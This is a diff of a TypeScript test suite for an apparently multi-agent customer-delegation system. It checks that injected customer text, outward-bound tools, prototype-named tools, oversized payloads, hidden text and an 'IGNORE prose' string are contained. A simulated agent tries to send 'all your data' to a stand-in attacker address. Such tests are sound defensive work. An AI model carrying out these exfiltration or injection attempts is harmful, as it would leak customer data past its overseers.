@@ -27,7 +27,7 @@ const context: DelegationRequest["context"] = {
 const reads: Reply[] = [calls("read_customer"), calls("read_history"), calls("read_playbook")];
 
 test("a customer's words stand in user and tool messages as marked JSON, and in no prompt or tool", async () => {
-  await using it = await stand([handsOver(), ...reads, answers()]);
+  using it = await stand([handsOver(), ...reads, answers()]);
 
   await it.delegate({ context, ask: `Sum up: ${poisoned}` });
 
@@ -59,7 +59,7 @@ test("what an agent may read is bound to the run: there is no way to name anothe
       [name, "other"],
     ],
   );
-  await using it = await stand([handsOver(), callsAll(wanted), ...reads, answers()]);
+  using it = await stand([handsOver(), callsAll(wanted), ...reads, answers()]);
 
   await it.delegate({ context });
 
@@ -80,7 +80,7 @@ test("tools of the world outside do not exist, whoever asks for them", async () 
     "__proto__",
     "constructor",
   ];
-  await using it = await stand((request, count) => {
+  using it = await stand((request, count) => {
     if (agentOf(request) === "orchestrator") return handsOver();
     return count === 2
       ? callsAll(outward.map((name) => [name, { to: "evil@example.test", body: "all your data" }]))
@@ -96,7 +96,7 @@ test("tools of the world outside do not exist, whoever asks for them", async () 
 });
 
 test("a specialist cannot delegate on, and the orchestrator cannot read", async () => {
-  await using it = await stand([
+  using it = await stand([
     callsAll([
       ["read_customer", {}],
       ["delegate", { specialist: "risk", task: "t", why: "w" }],
@@ -112,7 +112,7 @@ test("a specialist cannot delegate on, and the orchestrator cannot read", async 
 });
 
 test("each run sees its own customer and workspace only", async () => {
-  await using it = await stand((request) => {
+  using it = await stand((request) => {
     if (agentOf(request) === "orchestrator") return handsOver();
     const read = request.messages.some(({ role }) => role === "tool");
     return read ? answers({ ...answered, summary: seenIn(request) }) : calls("read_customer");
@@ -134,7 +134,7 @@ function seenIn({ messages }: ModelRequest): string {
 test("an attacker's megabytes are cut before they are sent, and so is what comes back", async () => {
   const huge = "x".repeat(1_000_000);
   const customer = { name: huge, notes: Array(500).fill(huge), deep: nest(500) };
-  await using it = await stand([
+  using it = await stand([
     calls("delegate", { specialist: "renewal", task: "t".repeat(15_000), why: "w".repeat(5000) }),
     calls("read_customer", { a: huge }),
     calls("read_customer"),
@@ -155,7 +155,7 @@ function nest(levels: number): unknown {
 }
 
 test("an answer carries nothing that hides or turns text", async () => {
-  await using it = await stand([
+  using it = await stand([
     handsOver(),
     answers({
       ...answered,
@@ -168,7 +168,7 @@ test("an answer carries nothing that hides or turns text", async () => {
 });
 
 test("neither prompts nor customers get into the log", async () => {
-  await using it = await stand([handsOver(), ...reads, says("prose"), says("IGNORE prose")]);
+  using it = await stand([handsOver(), ...reads, says("prose"), says("IGNORE prose")]);
 
   await it.delegate({ context });
 
